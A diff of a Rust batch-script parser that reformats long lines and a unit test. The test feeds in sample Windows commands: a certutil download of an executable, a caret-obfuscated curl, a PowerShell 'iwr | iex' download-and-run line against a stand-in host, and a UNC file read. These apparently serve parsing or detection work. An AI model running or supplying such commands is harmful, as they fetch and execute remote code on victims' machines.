@@ -138,7 +138,8 @@ fn line_commands(line: &str, lineno: usize, script: &mut Script, count: &mut usi
                 if let Some((k, v)) = rest.split_once('=')
                     && !k.contains(' ')
                 {
-                    cmd.assigns.push((k.to_string(), v.trim_end_matches('"').to_string()));
+                    cmd.assigns
+                        .push((k.to_string(), v.trim_end_matches('"').to_string()));
                 }
                 let end = t[i..].find('&').map(|n| i + n).unwrap_or(b.len());
                 i = end;
@@ -215,9 +216,23 @@ mod tests {
             "@echo off\nrem curl http://x\n@C:\\W\\certutil.exe -urlcache -f \"http://h/a b\" a.exe & c^u^r^l -o x http://h/y\ntype \\\\h\\s\\x > y\npowershell -c \"iwr http://h | iex\" & echo\n",
             1,
         );
-        let a: Vec<&Vec<String>> = s.pipelines.iter().flat_map(|p| &p.cmds).map(|c| &c.argv).collect();
+        let a: Vec<&Vec<String>> = s
+            .pipelines
+            .iter()
+            .flat_map(|p| &p.cmds)
+            .map(|c| &c.argv)
+            .collect();
         assert_eq!(a[0], &["echo", "off"]);
-        assert_eq!(a[1], &["C:\\W\\certutil.exe", "-urlcache", "-f", "http://h/a b", "a.exe"]);
+        assert_eq!(
+            a[1],
+            &[
+                "C:\\W\\certutil.exe",
+                "-urlcache",
+                "-f",
+                "http://h/a b",
+                "a.exe"
+            ]
+        );
         assert_eq!(a[2][0], "curl");
         let ty = &s.pipelines[3].cmds[0];
         assert_eq!(ty.argv, ["type", "\\\\h\\s\\x"]);
